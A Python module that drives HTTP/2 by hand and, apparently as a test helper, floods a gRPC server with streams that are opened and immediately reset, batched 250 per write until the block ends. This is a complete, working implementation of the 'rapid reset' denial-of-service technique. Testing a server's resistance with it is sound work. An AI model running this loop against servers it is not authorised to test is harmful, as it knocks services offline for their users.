"""HTTP/2 spoken frame by frame (RFC 9113), for what no client library would do."""

from __future__ import annotations

import socket
import struct
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from itertools import count

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_HEADERS, _RST_STREAM, _SETTINGS, _PING = 1, 3, 4, 6
_ACK, _END_HEADERS = 0x1, 0x4
_CANCEL = struct.pack(">I", 8)
# 250 streams a write: fewer writes, and no more than a socket's buffer takes.
_AT_ONCE = 250


def connect(address: str) -> socket.socket:
    """A connection that has sent its preface and settings."""
    host, _, port = address.rpartition(":")
    connection = socket.create_connection((host, int(port)), timeout=30)
    connection.sendall(_PREFACE + frame(_SETTINGS, 0, 0, b""))
    return connection


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def request_headers(path: str) -> bytes:
    """A gRPC request's headers, each a literal (RFC 7541, 6.2.2), after `:method: POST` and `:scheme: http`."""
    literals = {":path": path, ":authority": "a", "content-type": "application/grpc", "te": "trailers"}
    encoded = [
        bytes([0, len(name)]) + name.encode() + bytes([len(value)]) + value.encode() for name, value in literals.items()
    ]
    return b"\x83\x86" + b"".join(encoded)


@contextmanager
def resetting(address: str, path: str) -> Iterator[None]:
    """Open streams and reset them at once, as fast as one thread can, until the block ends."""
    stopping = threading.Event()
    connection = connect(address)
    headers = request_headers(path)

    def read() -> None:
        pending = b""
        with suppress(OSError):
            while received := connection.recv(1 << 16):
                pending += received
                while len(pending) >= 9 and len(pending) >= (end := 9 + int.from_bytes(pending[:3])):
                    kind, flags, payload = pending[3], pending[4], pending[9:end]
                    if kind in (_SETTINGS, _PING) and not flags & _ACK:
                        connection.sendall(frame(kind, _ACK, 0, payload if kind == _PING else b""))
                    pending = pending[end:]

    def send() -> None:
        streams = count(1, 2)
        with suppress(OSError):
            while not stopping.is_set():
                batch = (
                    frame(_HEADERS, _END_HEADERS, stream, headers) + frame(_RST_STREAM, 0, stream, _CANCEL)
                    for stream, _ in zip(streams, range(_AT_ONCE))  # noqa: B905
                )
                connection.sendall(b"".join(batch))

    threads = [threading.Thread(target=work, daemon=True) for work in (read, send)]
    for thread in threads:
        thread.start()
    try:
        yield
    finally:
        stopping.set()
        connection.close()
        for thread in threads:
            thread.join(10)
